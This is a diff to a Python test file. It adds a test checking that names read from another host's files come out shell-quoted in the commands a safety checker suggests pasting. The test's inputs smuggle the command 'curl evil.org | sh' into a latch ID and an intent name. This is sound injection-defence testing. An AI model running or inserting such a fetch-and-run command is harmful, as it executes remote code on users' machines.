@@ -1,5 +1,6 @@
 """What the answers say where a home is not well: each doubt by itself, each with what it rests on."""
 
+import shlex
 from dataclasses import replace
 from datetime import timedelta
 from typing import Any
@@ -102,6 +103,16 @@ def test_each_doubt_alone_keeps_it_from_being_safe(view: View, change: dict[str,
     assert answer.exit == Exit.REFUSED
     assert has(answer, word, level)
     assert answer.next
+
+
+def test_a_name_from_a_file_is_quoted_in_what_is_to_be_pasted(view: View) -> None:
+    """On Alpha these files are another host's words."""
+    latch = replace(LATCH, latch_id="latch_x; curl evil.org | sh")
+    doubtful = {PORTFOLIO: Doc({"intents": {"in1_x; curl evil.org | sh": "unknown"}})}
+    answer = safety.safe(changing(view, docs=doubtful, latches=(latch,)), safety.Held())
+    found = [step.command for step in answer.next if "curl" in step.command]
+    assert len(found) >= 2
+    assert all("curl" in next(word for word in shlex.split(one) if "x;" in word) for one in found)
 
 
 def test_doubts_about_orders_files_people_and_other_hosts(view: View) -> None:
